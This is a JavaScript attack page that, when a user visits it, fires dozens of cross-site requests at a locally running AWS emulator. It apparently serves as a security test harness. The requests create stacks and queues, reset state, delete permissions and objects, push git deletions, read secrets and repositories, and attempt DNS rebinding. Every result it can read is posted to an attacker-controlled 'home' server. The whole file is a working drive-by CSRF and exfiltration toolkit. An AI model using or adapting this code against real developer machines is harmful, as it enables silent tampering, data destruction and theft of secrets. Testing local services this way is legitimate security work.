// Everything that a page can try against the local AWS, without the user's help.
//
// The fragment of the page's address has JSON: `target` is the address of the local AWS, `home` that of the
// attacker's server. Each attack returns what it could read, or null; the page reports all of it to `home`.
"use strict";

const WAIT_MILLISECONDS = 10000;
const settings = JSON.parse(decodeURIComponent(location.hash.slice(1)));
const { target, home } = settings;
const FORM = "application/x-www-form-urlencoded";

function query(parameters) {
  return new URLSearchParams(parameters).toString();
}

function stackOf(name) {
  return {
    Action: "CreateStack",
    Version: "2010-05-15",
    StackName: name,
    TemplateBody: settings.template,
    "Capabilities.member.1": "CAPABILITY_IAM",
  };
}

function queueOf(name) {
  return { Action: "CreateQueue", Version: "2012-11-05", QueueName: name };
}

// Resolves with true when the element has loaded, with false when it has not.
function loaded(element) {
  return new Promise((resolve) => {
    element.addEventListener("load", () => resolve(true));
    element.addEventListener("error", () => resolve(false));
    setTimeout(() => resolve(false), WAIT_MILLISECONDS);
  });
}

function add(tag, attributes) {
  const element = Object.assign(document.createElement(tag), attributes);
  const done = loaded(element);
  document.body.append(element);
  return done.then((isLoaded) => ({ element, isLoaded }));
}

async function read(url, options) {
  const response = await fetch(url, options);
  return (await response.text()) || null; // an opaque response has no text
}

async function textOfFrame(frame) {
  return frame.contentDocument?.body.innerText ?? null; // null if its origin is another one
}

async function sendForm(action, fields, { method = "POST", enctype = FORM } = {}) {
  const frame = Object.assign(document.createElement("iframe"), { name: `frame${Math.random()}` });
  document.body.append(frame);
  const form = Object.assign(document.createElement("form"), { action, method, enctype, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), { name, value }));
  }
  document.body.append(form);
  const done = loaded(frame);
  form.submit();
  await done;
  return textOfFrame(frame);
}

function amazonJson(operation, body) {
  const headers = { "X-Amz-Target": operation, "Content-Type": "application/x-amz-json-1.0" };
  return { method: "POST", headers, body: JSON.stringify(body) };
}

const attacks = {
  "form creates a stack": () => sendForm(`${target}/`, stackOf("by-form")),
  "form with GET creates a queue": () => sendForm(`${target}/`, queueOf("by-get-form"), { method: "GET" }),
  "form with text": () => sendForm(`${target}/`, { [JSON.stringify({ a: 1 })]: "" }, { enctype: "text/plain" }),
  "form with files uploads an object": () =>
    sendForm(`${target}/bucket`, { key: "by-form", file: "x" }, { enctype: "multipart/form-data" }),
  "form through a redirect": () =>
    sendForm(`${home}/redirect?to=${encodeURIComponent(`${target}/`)}`, stackOf("by-redirected-form")),
  "form of a page without origin": async () => {
    const fields = Object.entries(stackOf("by-sandbox"))
      .map(([name, value]) => `<textarea name="${name}">${value.replaceAll("<", "&lt;")}</textarea>`)
      .join("");
    const page = `<form method="post" action="${target}/">${fields}</form><script>document.forms[0].submit()</script>`;
    await add("iframe", { srcdoc: page, sandbox: "allow-scripts allow-forms" });
    await new Promise((resolve) => setTimeout(resolve, 500));
    return null;
  },
  "no-cors POST creates a stack": () =>
    read(`${target}/`, { method: "POST", mode: "no-cors", body: new URLSearchParams(stackOf("by-no-cors")) }),
  "no-cors POST as text": () =>
    read(`${target}/`, { method: "POST", mode: "no-cors", body: query(stackOf("by-text")) }),
  "no-cors POST resets everything": () =>
    read(`${target}/_ministack/reset`, { method: "POST", mode: "no-cors" }),
  "no-cors POST pushes": () =>
    read(`${target}/v1/repos/app/git-receive-pack`, {
      method: "POST",
      mode: "no-cors",
      body: settings.deletion,
    }),
  "no-cors GET creates a queue": () => read(`${target}/?${query(queueOf("by-no-cors-get"))}`, { mode: "no-cors" }),
  "cors POST creates a stack": () =>
    read(`${target}/`, { method: "POST", body: new URLSearchParams(stackOf("by-cors")) }),
  "cors POST of JSON": () => read(`${target}/`, amazonJson("AmazonSQS.CreateQueue", { QueueName: "by-json" })),
  "cors POST reads JSON": () => read(`${target}/`, amazonJson("AWSStepFunctions.ListStateMachines", {})),
  "cors PUT of an object": () => read(`${target}/bucket/by-cors`, { method: "PUT", body: "x" }),
  "cors DELETE of an object": () => read(`${target}/bucket/secret`, { method: "DELETE" }),
  "cors DELETE of the permissions": () => read(`${target}/_stepline/permissions`, { method: "DELETE" }),
  "cors push": () =>
    read(`${target}/v1/repos/app/git-receive-pack`, {
      method: "POST",
      headers: { "Content-Type": "application/x-git-receive-pack-request" },
      body: settings.deletion,
    }),
  "cors GET of an object": () => read(`${target}/bucket/secret`),
  "cors GET of the permissions": () => read(`${target}/_stepline/permissions`),
  "cors GET of a repository": () => read(`${target}/v1/repos/app/info/refs?service=git-upload-pack`),
  "cors GET of a REST API": () => read(`${target}${settings.apiPath}`),
  "cors GET with an error": () => read(`${target}/no-such-bucket/key`),
  beacon: async () => {
    navigator.sendBeacon(`${target}/`, new URLSearchParams(stackOf("by-beacon")));
    return null;
  },
  ping: async () => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: `${target}/_ministack/reset` });
    document.body.append(link);
    link.click();
    return null;
  },
  image: async () => ((await add("img", { src: `${target}/?${query(queueOf("by-img"))}` })).isLoaded ? "loaded" : null),
  "image in a bucket": async () =>
    (await add("img", { src: `${target}/bucket/image.svg` })).isLoaded ? "loaded" : null,
  "image through a redirect": async () => {
    const to = encodeURIComponent(`${target}/?${query(queueOf("by-redirected-img"))}`);
    return (await add("img", { src: `${home}/redirect?to=${to}` })).isLoaded ? "loaded" : null;
  },
  script: async () => ((await add("script", { src: `${target}/bucket/script.js` })).isLoaded ? "loaded" : null),
  "style sheet": async () =>
    (await add("link", { rel: "stylesheet", href: `${target}/bucket/style.css` })).isLoaded ? "loaded" : null,
  frame: async () => {
    const { element } = await add("iframe", { src: `${target}/bucket/secret` });
    return textOfFrame(element);
  },
  window: async () => {
    const opened = window.open(`${target}/?${query(queueOf("by-window"))}`);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return opened.document.body.innerText; // raises if its origin is another one
  },
  websocket: () =>
    new Promise((resolve) => {
      const socket = new WebSocket(`${target.replace("http", "ws")}${settings.socketPath}`);
      socket.onopen = () => resolve("opened");
      socket.onerror = () => resolve(null);
    }),
};

async function run() {
  const results = {};
  if (settings.rebinds) {
    await fetch(`${home}/rebind`, { mode: "no-cors" }); // from now on, the page's own name is that of the target
  }
  for (const name of settings.only ?? Object.keys(attacks)) {
    try {
      results[name] = await attacks[name]();
    } catch (error) {
      results[name] = null; // the browser has refused to read
    }
  }
  await fetch(`${home}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
}

run();
